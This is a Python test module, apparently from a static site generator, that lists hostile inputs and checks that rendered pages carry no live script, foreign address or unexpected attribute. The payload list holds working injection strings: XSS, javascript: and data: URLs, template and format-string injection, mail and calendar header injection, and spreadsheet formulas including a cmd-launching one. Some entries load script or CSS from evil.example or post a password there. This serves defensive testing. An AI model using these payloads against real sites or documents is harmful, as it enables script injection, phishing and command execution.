"""Hostile texts, and what no answer that shows one may have: each names `pwned`, so that whatever runs is seen."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

from tests.pages import XHTML, is_data, parsed

PAYLOADS = {
    "script": "<script>pwned()</script>",
    "script of another site": "<script src=https://evil.example/x.js></script>",
    "script in odd letters": "<ScRiPt\t/x>pwned()</sCrIpT >",
    "picture": "<img src=x onerror=pwned()>",
    "svg": "<svg/onload=pwned()><script>pwned()</script></svg>",
    "svg file": '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:pwned()"><text>x</text></a></svg>',
    "math": "<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>",
    "double quote": '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "single quote": "' onmouseover='pwned()' x='",
    "back tick": "` onmouseover=pwned() `",
    "end of everything": "--></title></style></textarea></script></noscript></template><img src=x onerror=pwned()>",
    "end of a data block": '</script><script>pwned()</script>{"@type":"Hack"}',
    "open comment of a script": "<!--<script>",
    "end of a string of JSON": '","pwned":"yes","x":"\\',
    "line separators": "one\u2028pwned()\u2029two",
    "address that runs": "javascript:pwned()",
    "address that runs, hidden": "java\tscript\n:pwned()//",
    "address of data": "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "link of ours": '[click](javascript:pwned()) [click](data:text/html,<script>pwned()</script>) [x](https://a.example/"onclick=pwned())',
    "link of ours to nowhere": "**[[x](page:never)](/never)** [](https://a.example) [y](//evil.example/x) [z](\\\\evil.example)",
    "style": "</p><style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "style as a value": "red;background:url(https://evil.example/?pwned)",
    "template": "{{ 7*7 }}{% set x = pwned() %}${pwned()}#{pwned()}<%= pwned() %>",
    "format": "%(name)s %s {0} {name!r} {0.__class__}",
    "calendar property": "Party\r\nATTENDEE:mailto:pwned@evil.example\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO",
    "calendar escapes": "a\\;b\\,c\\n;TZID=x:pwned\nX-PWNED:1",
    "header of a mail": "Subject\r\nBcc: pwned@evil.example\r\n\r\n<script>pwned()</script>",
    "nul and controls": "a\x00b\x07c\x1b[31md\x7fe\x85f",
    "turned around": "invoice\u202efdp.exe\u202c \u2067pwned\u2069 \u200ehidden",
    "formula": '=HYPERLINK("https://evil.example","pwned")',
    "formula of another kind": "@SUM(1+1)*cmd|' /C calc'!A0",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🇿🇦 e\u0301 ﷽ Ⓐ \U0010fffd",
    "many marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 20,
    "very long": "pwned " * 4_000,
    "very long word": "A" * 20_000,
    "deep marks": "[" * 2_000 + "**" * 1_001 + "- " * 500,
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a base": '<base href="https://evil.example/">',
    "a form": '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "a frame": '<iframe srcdoc="<script>pwned()</script>"></iframe>',
    "an entity": "&lt;script&gt;pwned()&lt;/script&gt; &#x3c;img src=x onerror=pwned()&#x3e; &amp;lt;",
    "lone surrogate escape": "\\ud800 \\u003cscript\\u003epwned()\\u003c/script\\u003e",
}
ELEMENTS = {
    "html", "head", "meta", "title", "link", "script", "body", "a", "header", "nav", "ul", "ol", "li", "main", "section",
    "article", "figure", "figcaption", "blockquote", "div", "p", "h1", "h2", "h3", "span", "strong", "b", "bdi", "br", "img",
    "dl", "dt", "dd", "time", "address", "form", "input", "textarea", "label", "button", "footer",
}  # fmt: skip
DRAWN = frozenset({"svg", "path", "circle", "rect", "line", "polyline"})
ATTRIBUTES = {
    "lang", "data-mode", "data-theme", "data-template", "data-corners", "data-letters", "data-header", "data-kind",
    "data-level", "charset", "name", "content", "property", "rel", "href", "hreflang", "type", "class", "id", "tabindex",
    "aria-label", "aria-current", "aria-labelledby", "aria-hidden", "src", "srcset", "sizes", "width", "height", "alt",
    "loading", "decoding", "fetchpriority", "datetime", "method", "action", "value", "for", "maxlength", "autocomplete",
    "required", "rows",
}  # fmt: skip
OF_DRAWINGS = {
    "width", "height", "viewbox", "fill", "stroke", "stroke-width", "stroke-linecap", "stroke-linejoin", "class",
    "aria-hidden", "d", "cx", "cy", "r", "x", "y", "rx", "x1", "x2", "y1", "y2", "points", "xmlns",
}  # fmt: skip
WAYS = {"", "http", "https", "mailto", "tel"}


def live(html: str) -> Iterator[str]:
    """What in a page is more than text: an element, an attribute or an address that none of our templates writes."""
    tree, errors = parsed(html)
    if errors:
        yield f"not valid: {errors[:3]}"
    for element in tree.iter():
        tag, names = str(element.tag), {str(name).lower() for name in element.attrib}
        if tag.startswith(XHTML):
            if tag.removeprefix(XHTML) not in ELEMENTS or names - ATTRIBUTES:
                yield f"<{tag.removeprefix(XHTML)} {sorted(names - ATTRIBUTES)}>"
        elif tag.rpartition("}")[2] not in DRAWN or names - OF_DRAWINGS:
            yield f"<{tag} {sorted(names - OF_DRAWINGS)}>"
        if tag == f"{XHTML}script" and not is_data(element):
            yield "a script that is no data"
        if tag == f"{XHTML}meta" and element.get("http-equiv"):
            yield "a meta that does something"
        for name in ("href", "src", "action"):
            if (address := element.get(name)) is not None and (fault := _wrong(address, is_loaded=name != "href")):
                yield f"{name}={address[:80]!r}: {fault}"


def _wrong(address: str, *, is_loaded: bool) -> str:
    """What is wrong with an address: one that runs, or one of another site that is loaded or sent to."""
    if re.search(r"[\x00-\x20\\]", address):
        return "a sign that no address has"
    parts = urlsplit(address)
    if parts.scheme not in WAYS:
        return "a way that is none of ours"
    if is_loaded and (parts.netloc or parts.scheme):
        return "another site"
    return "no scheme, but a host" if parts.netloc and not parts.scheme else ""


def skeleton(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a page and the names of their attributes, without text and values."""
    tree, _ = parsed(html)
    return [(str(e.tag), tuple(sorted(str(name) for name in e.attrib))) for e in tree.iter()]
